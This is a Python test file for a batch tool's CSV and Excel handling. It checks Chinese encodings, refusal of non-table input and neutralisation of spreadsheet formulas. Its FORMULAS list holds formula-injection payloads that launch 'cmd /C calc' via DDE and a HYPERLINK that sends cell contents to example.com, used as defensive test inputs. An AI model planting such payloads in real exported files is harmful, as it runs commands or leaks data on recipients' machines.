"""CSV in the encodings clerks have, and cells that a spreadsheet must not run."""

from __future__ import annotations

import csv
from datetime import datetime
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from calculators.batch.csv_text import harmless, read_csv, write_csv
from calculators.batch.marks import TableError
from calculators.batch.table_file import read_table
from handbook.spreadsheet import write_xlsx
from tests.batch.workbooks import rows_of

ROWS = [
    ["名称", "文件", "户数"],
    ["甲镇，“东”", "清远", "3,000"],
    ['说"好"', "天津", "第一行\n第二行"],
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"点我")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=IMPORTXML(CONCAT(A1),1)",
    '=DDE("cmd";"/C calc";"x")',
]


def as_csv(rows: list[list[str]], separator: str = ",") -> str:
    lines = []
    for row in rows:
        quoted = ['"' + cell.replace('"', '""') + '"' for cell in row]
        lines.append(separator.join(quoted))
    return "\r\n".join(lines) + "\r\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
@pytest.mark.parametrize("separator", [",", "\t", ";"])
def test_a_table_is_read_in_every_usual_encoding(encoding: str, separator: str) -> None:
    assert read_csv(as_csv(ROWS, separator).encode(encoding)) == ROWS


def test_gb18030_letters_outside_gbk_are_read() -> None:
    assert read_csv("名称\r\n㐂䶮𠮷镇\r\n".encode("gb18030")) == [["名称"], ["㐂䶮𠮷镇"]]


@pytest.mark.parametrize(
    "data", [b"\x89PNG\r\n\x1a\n\x00\x00", b"\xff\xff\xff", b"PK\x03\x04\x00\x00"]
)
def test_what_is_no_table_is_refused_in_chinese(data: bytes) -> None:
    with pytest.raises(TableError, match="请"):
        read_csv(data)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_an_apostrophe_in_csv(formula: str) -> None:
    (row,) = csv.reader(write_csv([[formula]]).decode("utf-8-sig").splitlines(keepends=True))
    assert row[0].startswith("'")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_stays_text_in_xlsx(formula: str, tmp_path: Path) -> None:
    (tmp_path / "t.xlsx").write_bytes(write_xlsx({"表": [["名称"], [formula]]}))
    cell = load_workbook(tmp_path / "t.xlsx").worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.value is not None


@pytest.mark.parametrize("plain", ["3000", "-5", "+3", "-0.5", "甲镇", "3-5", "", "三（一）1"])
def test_an_ordinary_cell_stays_as_it_is(plain: str) -> None:
    assert harmless(plain) == plain


@given(st.lists(st.lists(st.text(), min_size=2, max_size=4), min_size=1, max_size=5))
def test_no_written_cell_can_be_run(rows: list[list[str]]) -> None:
    for row in csv.reader(write_csv(rows).decode("utf-8-sig").split("\n")):
        for cell in row:
            number = cell.lstrip("+-").replace(".", "", 1).isdecimal()
            assert number or cell.strip()[:1] not in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}


def test_numbers_days_and_truth_values_of_a_workbook_become_text() -> None:
    book = Workbook()
    rows: list[list[object]] = [
        ["数", "日", "对"],
        [1234.5600000000001, datetime(2025, 1, 31), True],
        [3000, None, False],
    ]
    for row in rows:
        book.worksheets[0].append(row)
    target = BytesIO()
    book.save(target)
    assert rows_of(target.getvalue()) == [
        ["数", "日", "对"],
        ["1234.56", "2025-01-31", "是"],
        ["3000", "", "否"],
    ]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"PK\x05\x06"])
def test_what_is_no_workbook_is_refused_in_chinese(data: bytes) -> None:
    with pytest.raises(TableError, match="请"):
        read_table(data)
